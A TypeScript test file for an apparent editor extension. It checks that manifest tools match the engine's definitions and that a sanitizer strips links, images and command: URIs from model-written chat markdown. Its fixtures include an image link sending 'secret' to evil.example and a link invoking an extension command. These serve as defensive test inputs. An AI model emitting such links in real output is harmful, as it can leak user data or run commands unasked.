import { strict as assert } from 'node:assert';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import * as z from 'zod';

import { repositoryRoot } from '../../../scripts/repositoryRoot.mjs';
import { TOOL_DEFINITIONS } from '../../../src/agent/tools/definitions.js';
import { asText, withoutLinks } from '../../../src/extension/chat/inlineMarkdown.js';

interface ManifestTool {
  name: string;
  displayName: string;
  modelDescription: string;
  toolReferenceName: string;
  canBeReferencedInPrompt: boolean;
  icon: string;
  inputSchema: object;
}

describe('the tools of the manifest', () => {
  it("match the engine's, with its descriptions and schemas", async () => {
    const json = async (name: string) =>
      JSON.parse(await readFile(path.join(repositoryRoot, name), 'utf8')) as Record<string, unknown>;
    const { contributes } = (await json('package.json')) as { contributes: { languageModelTools: ManifestTool[] } };
    const sentences = await json('package.nls.json');
    const tools = contributes.languageModelTools;
    assert.deepEqual(
      tools.map(({ name, displayName, modelDescription, inputSchema }) => ({
        name,
        title: sentences[displayName.slice(1, -1)],
        description: modelDescription,
        schema: inputSchema,
      })),
      TOOL_DEFINITIONS.map(({ name, title, description, input }) => {
        const schema = { ...z.toJSONSchema(input, { io: 'input' }), $schema: undefined };
        return { name: `regen_${name}`, title, description, schema: JSON.parse(JSON.stringify(schema)) as object };
      }),
    );
    for (const { name, toolReferenceName, canBeReferencedInPrompt, icon } of tools) {
      assert.match(name, /^[\w-]+$/);
      assert.ok(canBeReferencedInPrompt && toolReferenceName !== '' && icon !== '', name);
    }
  });
});

describe("a model's text in the chat", () => {
  it('loads nothing and runs nothing', () => {
    for (const [markdown, shown] of [
      ['See ![a chart](https://evil.example/?q=secret "t") here.', 'See a chart here.'],
      ['[Open](command:regenResearch.clearAll?%5B%5D) it', 'Open it'],
      ['[![x](https://a.example/x.png)](https://b.example)', 'x'],
      ['A [reference][1] to it.\n\n[1]: https://evil.example/x', 'A reference to it.\n\n'],
      ['<https://evil.example/x> and <command:y>', ' and '],
      ['[a (b)](https://en.example/wiki/A_(b))', 'a (b)'],
      ['[ ![]( https://a.example/a.png ) ]', '[ ![]\\( https://a.example/a.png ) ]'],
      ['![a [b] c](<https://a.example/a b.png>)', '![a [b] c]\\(\\<https://a.example/a b.png>)'],
      ['<img src="https://a.example/a.png">', '\\<img src="https://a.example/a.png">'],
      ['![a][b]', 'a'],
      ['Numbers [1] and lists[0] stay; 3 < 4', 'Numbers [1] and lists[0] stay; 3 < 4'],
    ] as const) {
      const result = withoutLinks(markdown);
      assert.equal(result, shown);
      assert.doesNotMatch(result, /evil\.example|command:/);
    }
    assert.equal(asText('a\n*b* [c](command:d) <e>'), 'a \\*b\\* \\[c\\]\\(command:d\\) \\<e\\>');
  });
});
